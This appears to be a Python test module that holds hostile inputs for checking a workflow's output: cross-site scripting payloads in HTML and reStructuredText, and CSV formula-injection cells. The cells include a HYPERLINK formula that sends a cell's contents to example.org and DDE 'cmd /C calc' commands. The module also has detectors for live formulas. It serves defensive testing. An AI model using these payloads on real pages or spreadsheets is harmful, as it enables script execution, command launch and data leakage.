"""Hostile text for tests: markup that would run in a browser, and cells that a spreadsheet
would run as formulas; and the checks that find either in what the workflow writes.

Every script planted here, if it ever ran, would add an element named ``hostile-ran`` to the
page (the name is put together at run time, so the planted text itself never holds it).
"""

from __future__ import annotations

import base64
import csv
import io
import re

MARKER = "hostile" + "-ran"
RUN = "document.body.appendChild(document.createElement('hostile'+'-ran'))"
SCRIPT = f"<script>{RUN}</script>"
IMG = f'<img src=x onerror="{RUN}">'
RAW_HTML = f'<b onmouseover="{RUN}">bold</b><iframe src="javascript:{RUN}"></iframe>'
BREAKOUT = f"</script><script>{RUN}</script><!--<script>"
JS_LINK = f"javascript:void({RUN})"
RST_LINK = f"`click me <javascript:void({RUN})>`_"
RST_RAW = f".. raw:: html\n\n   {IMG}\n"
FORMULAS = (
    '=HYPERLINK("http://example.org/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
)
MATH = "$0 - $24,999"

_NUMBER = re.compile(
    r" *[+-]?(?:(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|inf|infinity|nan) *", re.IGNORECASE
)


def is_live_formula(cell: str) -> bool:
    """Whether a spreadsheet would read this CSV cell as a formula: it begins (after spaces)
    with = + - @ (or their full-width forms), a tab or a line break, and is not a number."""
    start = cell.lstrip(" ")[:1]
    return bool(start) and start in "=+-@\t\r\n＝＋－＠" and not _NUMBER.fullmatch(cell)


def live_formulas(data: bytes) -> list[str]:
    """The cells of a CSV (header included) that a spreadsheet would run as formulas."""
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if
            is_live_formula(cell)]  # fmt: skip


def embedded_csvs(html: bytes) -> list[bytes]:
    """The CSV files a report embeds (base64 data URIs)."""
    return [
        base64.b64decode(payload + b"=" * (-len(payload) % 4))
        for payload in re.findall(rb"data:text/csv;[^,\"]*base64,([A-Za-z0-9+/=]+)", html)
    ]
